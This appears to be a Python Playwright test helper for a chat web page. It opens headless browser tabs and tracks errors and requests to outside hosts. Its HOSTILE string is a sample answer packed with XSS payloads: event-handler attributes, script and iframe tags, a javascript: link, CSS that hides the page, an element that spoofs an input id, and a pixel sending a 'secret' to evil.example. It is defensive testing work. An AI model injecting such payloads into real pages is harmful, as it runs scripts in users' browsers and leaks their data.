"""Tabs of a headless Chromium for the tests of the chat page, and an answer that tries to break out of it."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

from playwright.sync_api import expect
from serving import Running

NAMES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
WIDE, NARROW = {"width": 1280, "height": 800}, {"width": 390, "height": 800}
HOSTILE = """# Title

<img src=x onerror="window.hacked = 1"><script>window.hacked = 2</script><iframe src="https://evil.example"></iframe>

[click](javascript:window.hacked=3) ![pixel](https://evil.example/pixel.png?secret=1) <https://good.example/a>

<a href="#" id="question" name="send" style="position:fixed">over the page</a>

| a | b |
|---|---|
| 1 | `2` |

```html
<script>window.hacked = 4</script>
```

<details open ontoggle="window.hacked = 5"><svg onload="window.hacked = 6"><style>*{display:none}</style></details>

1. **bold** ~~gone~~

- [x] task
"""


class Tab:
    """One tab and what went wrong in it. Requests to other hosts are counted, and lead nowhere."""

    def __init__(self, context: Any, url: str):
        self.page = context.new_page()
        self.page.set_default_timeout(60_000)
        self.errors: list[str] = []
        self.elsewhere: list[str] = []
        self.asked: list[str] = []
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("console", lambda line: self.errors.append(line.text) if line.type == "error" else None)
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("request", lambda request: None if request.url.startswith(url)
                     else self.elsewhere.append(request.url))
        self.page.goto(url + "/")
        self.page.wait_for_selector("#model:not(:empty), dialog[open]")

    def ask(self, text: str) -> None:
        self.page.fill("#question", text)
        self.page.press("#question", "Enter")

    def wait(self) -> None:
        """Until the answer has ended."""
        self.page.wait_for_selector("li.assistant")
        self.page.wait_for_selector("#stop", state="hidden")

    def eventually(self, condition: Callable[[], bool]) -> None:
        """wait_for_function needs eval, which the page's policy forbids."""
        end = time.monotonic() + 60
        while not condition():
            assert time.monotonic() < end, "it does not come"
            self.page.wait_for_timeout(20)

    def texts(self) -> list[str]:
        return [text.strip() for text in self.page.locator("#messages > li > .text").all_inner_texts()]

    def until(self, want: list[str]) -> None:
        """Until the messages are these."""
        expect(self.page.locator("#messages > li > .text")).to_have_text(want, timeout=60_000)


@contextmanager
def tabs_of(browser: Any) -> Iterator[Callable[..., Tab]]:
    """Opens tabs, of one browser profile unless another one is asked for."""
    contexts: dict[tuple[Any, ...], Any] = {}
    opened: list[Tab] = []

    def open_tab(running: Running, profile: int = 0, size: dict[str, int] = WIDE, theme: str = "light") -> Tab:
        key = (profile, size["width"], theme)
        if key not in contexts:
            contexts[key] = browser.new_context(viewport=size, color_scheme=theme)
        opened.append(Tab(contexts[key], running.url))
        return opened[-1]

    yield open_tab
    for context in contexts.values():
        context.close()
    for tab in opened:
        assert tab.errors == [] and tab.elsewhere == []
